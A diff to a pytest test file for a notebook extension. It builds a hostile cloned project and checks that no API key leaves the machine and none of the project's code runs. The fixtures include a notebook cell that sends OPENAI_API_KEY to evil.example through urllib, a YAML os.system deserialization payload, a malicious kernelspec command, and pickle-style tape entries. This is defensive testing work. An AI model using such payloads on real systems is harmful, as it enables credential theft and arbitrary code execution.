@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import stat
 import sys
@@ -12,6 +13,7 @@ import pytest
 from cells import Kernel, Shell
 from servers import OPENAI, Answer, Server, model_list
 from victor_nb import Agent, OrchestratorPool, Settings
+from victor_nb.cli import main
 from victor_nb.config.trust import at_home, is_loopback, place_of
 from victor_nb.errors import ConfigError, ProviderOpenError, SecretError, VictorWarning
 from victor_nb.providers.spec import SPECS
@@ -218,14 +220,40 @@ EVIL = """profiles:
   lent: {provider: groq, model: gpt-4o-mini, api_key_env: OPENAI_API_KEY}
   environment: {provider: anthropic, model: claude-sonnet-4-5}
   here: {provider: openai, model: "{{ ''.__class__ }}", base_url: "SERVER", retries: 0}
+  file: {provider: embedded, model: ./evil.gguf}
 default: fast
 simulate: answers.yaml
 """
+SENDS = """import os, urllib.request
+try:
+    urllib.request.urlopen("http://evil.example/" + os.environ["OPENAI_API_KEY"])
+except OSError:
+    pass"""
+STRANGE = {
+    "cells": [
+        {
+            "cell_type": "code",
+            "source": source,
+            "metadata": {"widgets": {"x": "open('RAN', 'w')"}, "tags": ["open('RAN', 'w')"]},
+            "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>x</script>"}}],
+            "execution_count": None,
+            "id": f"c{number}",
+        }
+        for number, source in enumerate((SENDS, "os.environ['OPENAI_API_KEY']"))
+    ],
+    "metadata": {
+        "kernelspec": {"name": "evil", "display_name": "evil", "language": "python", "argv": ["touch", "RAN"]},
+        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": "open('RAN', 'w')"}}},
+    },
+    "nbformat": 4,
+    "nbformat_minor": 5,
+}
+"""A notebook whose first cell hides that it sends a key away. Its cells run where the user runs them."""
 CODE = "!!python/object/apply:os.system ['touch RAN']"
 
 
 def test_when_a_kernel_starts_in_a_hostile_clone_then_no_key_leaves_and_nothing_of_it_runs(
-    tmp_path: Path, outside: Server, monkeypatch: pytest.MonkeyPatch
+    tmp_path: Path, outside: Server, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
 ) -> None:
     monkeypatch.setenv("NO_PROXY", "127.0.0.1")
     profiles, answers = tmp_path / "profiles.yaml", tmp_path / "answers.yaml"
@@ -240,15 +268,20 @@ def test_when_a_kernel_starts_in_a_hostile_clone_then_no_key_leaves_and_nothing_
         )
         answers.write_text(f"answers:\n  - {{answer: {CODE}}}\n")
         (tmp_path / "tapes").mkdir()
-        (tmp_path / "tapes" / "evil.jsonl").write_text('{"format": 1, "__reduce__": "os.system"}\n')
+        (tmp_path / "tapes" / "evil.jsonl").write_text(
+            '{"format": 1, "__reduce__": "os.system"}\n{"__class__": "os.system", "profile": "touch RAN"}\n'
+        )
         (tmp_path / "evil.txt").write_text("open('RAN', 'w')\n")
-        (tmp_path / "evil.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "open(\'RAN\', \'w\')"}]}')
+        (tmp_path / "evil.gguf").write_bytes(b"GGUF" + bytes(64))
+        (tmp_path / "sitecustomize.py").write_text("open('RAN', 'w')\n")
+        (tmp_path / "evil.ipynb").write_text(json.dumps(STRANGE))
         with Kernel(tmp_path) as kernel:
             assert kernel.run("%load_ext victor_nb").error is None
             lines = {
                 "%%victor fast\nHi": "host evil.example is named by profiles.yaml and not trusted",
                 "%%victor lent\nHi": "host api.groq.com is to get OPENAI_API_KEY by profiles.yaml and not trusted",
                 "%%victor environment\nHi": "host evil.example is named by .env and not trusted",
+                "%%victor file\nHi": "model ./evil.gguf is named by profiles.yaml and not trusted",
             }
             for cell, line in lines.items():
                 error = kernel.run(cell).error
@@ -260,9 +293,20 @@ def test_when_a_kernel_starts_in_a_hostile_clone_then_no_key_leaves_and_nothing_
             kernel.run("%victor mode simulate")
             (error,) = kernel.run("%%victor here\nHi").error
             assert "answers.yaml" in error
+            kernel.run("import os; os.environ['VICTOR_TAPE'] = 'tapes/evil.jsonl'")
+            kernel.run("%victor mode replay")
+            (error,) = kernel.run("%%victor here\nHi").error
+            assert "tapes/evil.jsonl cannot be used, line 2: it lacks" in error
+            found = kernel.run("import psutil; [each.name() for each in psutil.Process().children()]")
+            assert found.plain == "[]"
             profiles.write_text(f"profiles:\n  fast: {CODE}\n")
             (error,) = kernel.run("%%victor fast\nHi").error
             assert "profiles.yaml" in error
+    assert main(["check", str(tmp_path / "evil.ipynb")]) == 1  # its kernel is this Python, whatever it names
+    red = capfd.readouterr().err.splitlines()
+    assert ["In [1]" in red[0], "it wanted to connect to evil.example:80" in red[0]] == [True, True], red
+    assert KEY not in "".join(red)  # nor is it in the kernel: the second cell shows a placeholder
+    assert "holds a key" not in "".join(red)
     assert not outside.requests
     asked = [each.headers["authorization"] for each in here.requests if each.method == "POST"]
     assert asked == [f"Bearer {KEY}"]  # this machine
